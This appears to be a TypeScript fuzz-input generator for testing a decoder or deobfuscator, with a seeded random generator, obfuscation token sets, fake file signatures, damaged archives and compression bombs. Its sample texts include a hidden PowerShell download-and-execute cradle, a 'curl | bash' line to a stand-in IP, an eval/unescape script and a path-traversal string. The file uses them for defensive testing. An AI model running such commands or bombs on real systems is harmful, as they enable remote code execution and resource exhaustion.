import { deflateSync, gzipSync } from 'node:zlib';
import { zipSync } from 'fflate';
import { ENCODERS, encode, tarOf } from './encoders.test-helper.js';

/** Pseudo-random numbers of one seed (Mulberry32): the same inputs on each run. */
export class Random {
  #state: number;

  constructor(seed: number) {
    this.#state = seed | 0;
  }

  /** In [0, 1). */
  next(): number {
    this.#state = (this.#state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(this.#state ^ (this.#state >>> 15), this.#state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  }

  below(limit: number): number {
    return Math.floor(this.next() * limit);
  }

  pick<T>(of: readonly T[]): T {
    return of[this.below(of.length)] as T; // the lists below are not empty
  }

  /** Small numbers mostly, large ones now and then. */
  size(limit: number): number {
    return Math.floor(limit ** this.next());
  }

  bytes(length: number): Buffer {
    return Buffer.from(Uint8Array.from({ length }, () => this.below(256)));
  }
}

const TEXTS = [
  'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"', 'curl -s http://198.51.100.7/x.sh | bash', 'hello world', 'a', '', 'Ваши файлы зашифрованы',
  'パスワードを変更してください', '{"user":"ana","ip":"203.0.113.9","ok":true}', '<html><script>eval(unescape("%61%6c%65%72%74%28%31%29"))</script></html>', 'MZ\u0090\u0000\u0003', '../../etc/passwd\u0000', 'x'.repeat(300),
];
const NAMES = Object.keys(ENCODERS);

const SOUP: Readonly<Record<string, readonly string[]>> = {
  powershell: ['$a', '$env:x', '=', '+', '(', ')', '[', ']', '{', '}', '"', "'", '`', '-join', '-f', '-split', '-replace', '-bxor', '|', '%', ';', '\n', '[char]', '0x41', '99', '.', ',', 'IEX', '::', '[Convert]', 'FromBase64String', "'aGk='", '$(', '@(', '@"', '"@', '..', '-enc ', '$_', 'foreach', '#', '<#'],
  cmd: ['^', '%', '!', 'set x=', 'for /l %i in (1,1,9)', 'do', '%x:~1,2%', '!x:a=b!', '&', '&&', '|', '(', ')', '"', 'cmd /c ', 'call ', 'echo ', '%%a', '%comspec%', '\n', ' ', 'if ', '==', 'x', ',', ';', '/v:on'],
  javascript: ['var a', '=', '"', "'", '`', '${', '}', '(', ')', '[', ']', '+', '!', '![]', '+[]', 'eval', 'unescape', 'String.fromCharCode', '\\x41', '\\u0041', '.split', '.reverse()', '.join', 'function', '{', ';', '\n', ',', '0x1f', '/', '//', '/*', 'atob', 'this', '=>', 'for', 'while', '.replace'],
  vba: ['Chr(', ')', '&', '"', '_\n', 'Dim a', '=', 'StrReverse', 'Replace(', 'Execute ', 'For i = 1 To 9', 'Next', 'Mid(', 'Sub x()', 'End Sub', ',', '65', '\n', "'", 'Array(', 'ChrW$(', 'Join', 'Split', 'Asc('],
};
const REPEATED = ['a', 'A', '(', '[', '{', '%', '%25', '^', '\\x', '\\x41', '&#', '&#65;', '=?', '=?utf-8?B?QQ==?=', '=41', '"+"', "'+'", '<', '<script>', '1,', '65 ', '01', '0x', '0x41,', '\ud800', '\u0000', '\n', ' ', '`', '$(', '=', 'QQ==', 'H4sIA', 'powershell -e ', '.', '/', '//', '@', ':', '::', '1.', 'http://', 'a.', '\\', '\\\\', 'Ã©', '~', '<~', 'begin 644 a\n'];

const SIGNATURES = ['504b0304', '504b0506', '504b0102', '1f8b08', '425a6839', 'fd377a585a00', '5d00008000', '7573746172', '4d5a', 'd0cf11e0a1b11ae1', '25504446', '7f454c46', '4c00000001140200', '789c', '377abcaf271c', 'fffe', 'feff', 'cafebabe'];

/** What an attacker, a broken pipe or a careless copy may leave; the kind is for reports. */
const KINDS: Readonly<Record<string, (random: Random) => string>> = {
  bytes: (random) => random.bytes(random.size(3_000)).toString('latin1'),
  characters: (random) => Array.from({ length: random.size(1_000) }, () => String.fromCharCode(random.below(random.pick([0x80, 0x100, 0x3000, 0x10000])))).join(''),
  nested: (random) => nested(random, 1 + random.size(12)),
  mutated: (random) => mutated(random, nested(random, 1 + random.below(5))),
  soup: (random) => Array.from({ length: random.size(600) }, (_, __, soup = SOUP[random.pick(Object.keys(SOUP))] ?? []) => random.pick(soup)).join(random.pick(['', ' '])),
  mixed: (random, words = random.pick(Object.values(SOUP))) => Array.from({ length: random.size(400) }, () => (random.next() < 0.1 ? random.pick(TEXTS) : random.pick(words))).join(random.pick(['', ' ', '\n'])),
  repeated: (random) => `${random.pick(REPEATED).repeat(random.size(30_000))}${random.pick(TEXTS)}${random.pick(REPEATED).repeat(random.size(3_000))}`.slice(0, 200_000),
  damaged: (random) => Buffer.from(damage(random, archive(random))).toString(random.pick(['base64', 'hex', 'base64url', 'latin1'] as const)),
  lying: (random) => Buffer.concat([Buffer.from(random.pick(SIGNATURES), 'hex'), random.bytes(random.size(800)), Buffer.from(random.pick(SIGNATURES), 'hex'), Buffer.alloc(random.size(64), random.pick([0, 0xff]))]).toString(random.pick(['base64', 'hex'] as const)),
  bomb: (random) => bomb(random).toString('base64'),
};

/** An input by its seed. */
export function fuzzInput(seed: number): { readonly kind: string; readonly value: string; readonly random: Random } {
  const random = new Random(seed);
  const kind = random.pick(Object.keys(KINDS));
  return { kind, value: KINDS[kind]?.(random) ?? '', random };
}

function nested(random: Random, depth: number): string {
  let value = random.pick(TEXTS);
  for (let at = 0; at < depth && value.length < 20_000; at += 1) value = encode(random.pick(NAMES), value);
  return value;
}

function mutated(random: Random, text: string): string {
  let value = text;
  for (let times = 1 + random.below(4); times > 0; times -= 1) {
    const at = random.below(value.length + 1);
    const length = random.size(40);
    value = random.pick([
      () => value.slice(0, at), () => value.slice(at), () => value.slice(0, at) + value.slice(at + length), () => value.slice(0, at) + value.slice(at, at + length).repeat(1 + random.below(5)) + value.slice(at),
      () => value.slice(0, at) + String.fromCharCode(random.below(256)) + value.slice(at + 1), () => value.slice(0, at) + nested(random, 2) + value.slice(at), () => value.toLowerCase(), () => Array.from(value).reverse().join(''),
    ])();
  }
  return value;
}

function archive(random: Random): Buffer {
  const inner = Buffer.from(random.pick(TEXTS).repeat(1 + random.below(20)));
  return random.pick([
    () => Buffer.from(zipSync({ 'a.txt': inner, 'b/c.bin': random.bytes(random.size(500)) }, { level: random.pick([0, 6]) })), () => tarOf('d/e.txt', inner), () => gzipSync(inner), () => deflateSync(inner),
    () => gzipSync(tarOf('f', Buffer.from(zipSync({ g: inner })))), () => Buffer.from(zipSync({ 'h.zip': zipSync({ 'i.txt': inner }) })),
  ])();
}

function damage(random: Random, bytes: Buffer): Buffer {
  const copy = Buffer.from(bytes.subarray(0, random.next() < 0.3 ? random.below(bytes.length + 1) : bytes.length));
  for (let times = random.below(6); times > 0 && copy.length > 0; times -= 1) copy[random.below(copy.length)] = random.pick([0, 0xff, random.below(256)]);
  return copy;
}

function bomb(random: Random): Buffer {
  let bytes: Buffer = Buffer.alloc(1 + random.size(3_000_000), random.pick([0, 0x41, 0x20]));
  for (let times = 1 + random.below(3); times > 0; times -= 1) bytes = random.pick([() => gzipSync(bytes), () => deflateSync(bytes), () => Buffer.from(zipSync({ a: bytes, b: bytes }))])();
  return bytes;
}
